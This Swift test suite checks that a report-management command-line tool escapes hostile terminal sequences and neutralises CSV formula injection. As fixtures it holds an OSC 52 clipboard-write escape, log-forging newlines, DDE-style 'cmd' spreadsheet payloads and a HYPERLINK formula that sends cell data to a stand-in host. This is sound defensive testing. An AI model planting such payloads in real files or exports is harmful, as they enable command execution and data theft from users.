import Foundation
import Testing

/// Issue 11 §5 through the real binary: nothing hostile from a file, a file name or the store
/// reaches a terminal or a note as a command, and no CSV cell reaches a spreadsheet as a formula.
@Suite("Hostile text never reaches a terminal or a spreadsheet")
struct HostileOutputTests {
    /// A clipboard write, a window title, and a newline forging a second line.
    static let hostile = "\u{1B}]52;c;ZXZpbA==\u{07}\u{1B}]0;pwned\u{07}\ndlxh: forged line"

    /// A character a terminal acts on (other than the line feed ending each line), or one that
    /// turns or hides text.
    static func hazards(_ text: String) -> [UInt32] {
        text.unicodeScalars.map(\.value).filter { v in
            (v < 0x20 && v != 0x0A) || (0x7F...0x9F).contains(v) || (0x202A...0x202E).contains(v)
                || (0x2066...0x2069).contains(v) || (0x200B...0x200D).contains(v) || v == 0x2060 || v == 0xFEFF
        }
    }

    /// A good exchange file of one September report from a demo store, renumbered.
    static func goodExchange(from store: URL) throws -> [String: Any] {
        let export = try Dlxh.run(["export", "--store", store.path, "--period", "2026-09"])
        var good = try jsonObject(export.stdoutData) as! [String: Any]
        var reports = Array((good["reports"] as! [[String: Any]]).prefix(1))
        #expect(reports.count == 1)
        for i in reports.indices { reports[i]["documentNumber"] = "HOSTILE-\(i)" }
        good["reports"] = reports
        return good
    }

    static func editFirstReport(_ exchange: [String: Any], _ change: (inout [String: Any]) -> Void) -> [String: Any] {
        var copy = exchange
        var reports = copy["reports"] as! [[String: Any]]
        change(&reports[0])
        copy["reports"] = reports
        return copy
    }

    @Test("dlxh import prints a hostile unitID, createdBy and file name escaped, one problem per line")
    func importEchoesNothingRaw() throws {
        let store = try Dlxh.demoStore(seed: 21)
        defer { Dlxh.remove(store) }
        let bad = Self.editFirstReport(try Self.goodExchange(from: store)) {
            $0["unitID"] = "cam-my" + Self.hostile
            $0["createdBy"] = "Hà" + Self.hostile
        }
        let file = store.deletingLastPathComponent().appendingPathComponent("bao-cao\u{1B}]0;t\u{07}.json")
        try JSONSerialization.data(withJSONObject: bad).write(to: file)
        let result = try Dlxh.run(["import", file.path, "--store", store.path, "--today", "2026-11-24", "--lang", "en"])
        #expect(result.status == 1)
        #expect(Self.hazards(result.stderr + result.stdout).isEmpty, "\(result.stderr.debugDescription)")
        let lines = result.stderr.split(separator: "\n").map(String.init)
        #expect(!lines.isEmpty && lines.allSatisfy { $0.hasPrefix("dlxh: bao-cao\\u{1B}]0;t\\u{07}.json: rejected, ") }, "\(lines)")
        #expect(lines.contains { $0.contains("reports[0].unitID: contains control characters") })
        #expect(lines.contains { $0.contains("reports[0].createdBy: contains control characters") })
        #expect(lines.contains { $0.contains(#"no unit "cam-my\u{1B}]52;c;ZXZpbA==\u{07}\u{1B}]0;pwned\u{07}\u{0A}dlxh: forged line""#) })
        #expect(!lines.contains { $0.hasPrefix("dlxh: forged line") })
    }

    @Test("dlxh incoming prints a hostile file name escaped, and its reason note holds nothing raw")
    func incomingEchoesNothingRaw() throws {
        let store = try Dlxh.demoStore(seed: 22)
        defer { Dlxh.remove(store) }
        let bad = Self.editFirstReport(try Self.goodExchange(from: store)) { $0["unitID"] = "x" + Self.hostile }
        let incoming = store.appendingPathComponent("incoming")
        try FileManager.default.createDirectory(at: incoming, withIntermediateDirectories: true)
        let name = "don-vi\u{1B}]0;t\u{07}\nforged.json"
        let url = incoming.appendingPathComponent(name)
        try JSONSerialization.data(withJSONObject: bad).write(to: url)
        try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSinceNow: -60)], ofItemAtPath: url.path)

        let result = try Dlxh.run(["incoming", "--store", store.path, "--today", "2026-11-24", "--lang", "en"])
        #expect(result.status == 1)
        #expect(Self.hazards(result.stdout + result.stderr).isEmpty, "\(result.stdout.debugDescription)")
        let lines = result.stdout.split(separator: "\n").map(String.init)
        #expect(lines.count == 2, "one line for the file, one for the totals: \(lines)")
        #expect(lines.first?.hasPrefix(#"don-vi\u{1B}]0;t\u{07}\u{0A}forged.json: rejected, moved to incoming/rejected/"#) == true)

        let note = try String(contentsOf: incoming.appendingPathComponent("rejected/\(name).reason.txt"), encoding: .utf8)
        #expect(Self.hazards(note).isEmpty, "\(note.debugDescription)")
        let noteLines = note.split(separator: "\n").map(String.init)
        #expect(noteLines.count == 2, "the unknown unit and its control characters: \(noteLines)")
        #expect(noteLines.allSatisfy { $0.contains(" | ") && $0.hasPrefix(#"don-vi\u{1B}]0;t\u{07}\u{0A}forged.json: từ chối, "#) })
    }

    @Test("dlxh check prints ids from the store escaped, one finding per line")
    func checkEchoesNothingRaw() throws {
        let store = try Dlxh.demoStore(seed: 23)
        defer { Dlxh.remove(store) }
        let url = store.appendingPathComponent("reports/2026/2026-10.json")
        var file = try jsonObject(Data(contentsOf: url)) as! [String: Any]
        var reports = file["reports"] as! [[String: Any]]
        reports[0]["unitID"] = "cam-my" + Self.hostile
        reports[1]["supplementTo"] = "R-0" + Self.hostile
        file["reports"] = reports
        try JSONSerialization.data(withJSONObject: file).write(to: url)

        let result = try Dlxh.run(["check", "--store", store.path, "--today", "2026-11-24", "--lang", "en"])
        #expect(result.status == 1)
        #expect(Self.hazards(result.stderr + result.stdout).isEmpty, "\(result.stderr.debugDescription)")
        let lines = result.stderr.split(separator: "\n").map(String.init)
        #expect(lines.count == 3, "two findings and the total: \(lines)")
        #expect(lines.allSatisfy { $0.hasPrefix("dlxh: ") })
        #expect(lines.contains { $0.contains(#"unit cam-my\u{1B}]52;c;ZXZpbA==\u{07}\u{1B}]0;pwned\u{07}\u{0A}dlxh: forged line is not on the roster"#) })
    }

    /// The cells of CSV text (RFC 4180 quoting), after the byte-order mark.
    static func cells(_ data: Data) -> [[String]] {
        var text = Substring(String(decoding: data, as: UTF8.self))
        if text.first == "\u{FEFF}" { text = text.dropFirst() }
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var quoted = false
        var i = text.unicodeScalars.startIndex
        let scalars = text.unicodeScalars
        while i < scalars.endIndex {
            let c = scalars[i]
            i = scalars.index(after: i)
            if quoted {
                if c == "\"" {
                    if i < scalars.endIndex, scalars[i] == "\"" {
                        cell.unicodeScalars.append("\"")
                        i = scalars.index(after: i)
                    } else {
                        quoted = false
                    }
                } else {
                    cell.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                row.append(cell)
                cell = ""
            } else if c == "\r" {
                continue
            } else if c == "\n" {
                row.append(cell)
                rows.append(row)
                row = []
                cell = ""
            } else {
                cell.unicodeScalars.append(c)
            }
        }
        return rows
    }

    static func isFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        if Double(cell) != nil { return false }
        return ["=", "+", "-", "@", "\t", "\r"].contains(first)
    }

    @Test("export, status and matrix --format csv: a cell a spreadsheet would run gets a leading apostrophe, numbers stay numbers")
    func csvNeutralised() throws {
        let store = try Dlxh.demoStore(seed: 24)
        defer { Dlxh.remove(store) }
        let rosterURL = store.appendingPathComponent("roster.json")
        var roster = try jsonObject(Data(contentsOf: rosterURL)) as! [String: Any]
        var units = roster["units"] as! [[String: Any]]
        let index = units.firstIndex { $0["id"] as? String == "cam-my" }!
        units[index]["name"] = #"=HYPERLINK("http://x.example/?"&A1,"Cẩm Mỹ")"#
        roster["units"] = units
        try JSONSerialization.data(withJSONObject: roster).write(to: rosterURL)

        let reportsURL = store.appendingPathComponent("reports/2026/2026-10.json")
        var file = try jsonObject(Data(contentsOf: reportsURL)) as! [String: Any]
        var reports = file["reports"] as! [[String: Any]]
        let r = try #require(reports.firstIndex { $0["unitID"] as? String == "cam-my" && !(($0["items"] as? [Any]) ?? []).isEmpty })
        var items = reports[r]["items"] as! [[String: Any]]
        items[0]["content"] = "=cmd|' /C calc'!A0"
        items[0]["proposal"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        items[0]["proposalTo"] = "-2+3"
        reports[r]["items"] = items
        reports[r]["documentNumber"] = "+1"
        file["reports"] = reports
        try JSONSerialization.data(withJSONObject: file).write(to: reportsURL)

        let common = ["--store", store.path, "--today", "2026-11-24"]
        let export = try Dlxh.run(["export", "--format", "csv", "--period", reports[r]["period"] as! String] + common)
        let status = try Dlxh.run(["status", "--format", "csv", "--period", "2026-10"] + common)
        let matrix = try Dlxh.run(["matrix", "--format", "csv"] + common)
        for (name, result) in [("export", export), ("status", status), ("matrix", matrix)] {
            #expect(result.status == 0, "\(name): \(result.stderr)")
            let rows = Self.cells(result.stdoutData)
            #expect(rows.count > 2, "\(name)")
            let formulas = rows.flatMap { $0 }.filter(Self.isFormula)
            #expect(formulas.isEmpty, "\(name): \(formulas)")
            #expect(rows.flatMap { $0 }.contains(#"'=HYPERLINK("http://x.example/?"&A1,"Cẩm Mỹ")"#), "\(name)")
        }
        let exported = Self.cells(export.stdoutData).flatMap { $0 }
        #expect(exported.contains("'=cmd|' /C calc'!A0"))
        #expect(exported.contains("'@SUM(1+1)*cmd|' /C calc'!A0"))
        #expect(exported.contains("'-2+3"))
        #expect(exported.contains("+1"), "a plain number stays a number")
        // Days late stay numbers.
        let statusRows = Self.cells(status.stdoutData)
        #expect(statusRows.dropFirst().contains { Int($0[4]) != nil })
    }

    @Test("status, matrix and hotspots tables print ids and names from the store escaped; an error line quotes its argument escaped")
    func tablesEchoNothingRaw() throws {
        let store = try Dlxh.demoStore(seed: 25)
        defer { Dlxh.remove(store) }
        let rosterURL = store.appendingPathComponent("roster.json")
        var roster = try jsonObject(Data(contentsOf: rosterURL)) as! [String: Any]
        var units = roster["units"] as! [[String: Any]]
        units[0]["name"] = "Biên Hòa" + Self.hostile
        roster["units"] = units
        try JSONSerialization.data(withJSONObject: roster).write(to: rosterURL)
        let spotsURL = store.appendingPathComponent("hotspots/2026.json")
        var spots = try jsonObject(Data(contentsOf: spotsURL)) as! [String: Any]
        var list = spots["hotSpots"] as! [[String: Any]]
        for i in list.indices {
            var enterprise = list[i]["enterprise"] as! [String: Any]
            enterprise["name"] = "Công ty\u{202E}" + Self.hostile
            list[i]["enterprise"] = enterprise
        }
        spots["hotSpots"] = list
        try JSONSerialization.data(withJSONObject: spots).write(to: spotsURL)

        let common = ["--store", store.path, "--today", "2026-11-24"]
        for args in [["status", "--period", "2026-10"], ["matrix"], ["hotspots"]] {
            let result = try Dlxh.run(args + common)
            #expect(result.status == 0, "\(args): \(result.stderr)")
            #expect(Self.hazards(result.stdout).isEmpty, "\(args): \(result.stdout.debugDescription)")
            #expect(!result.stdout.split(separator: "\n").contains { $0.hasPrefix("dlxh: forged line") }, "\(args)")
            #expect(result.stdout.contains(#"\u{1B}]52;c;ZXZpbA==\u{07}"#), "\(args)")
        }
        let bad = try Dlxh.run(["status", "--period", "2026" + Self.hostile] + common)
        #expect(bad.status == 1)
        #expect(Self.hazards(bad.stderr).isEmpty, "\(bad.stderr.debugDescription)")
        #expect(bad.stderr.split(separator: "\n").count == 1)
    }
}
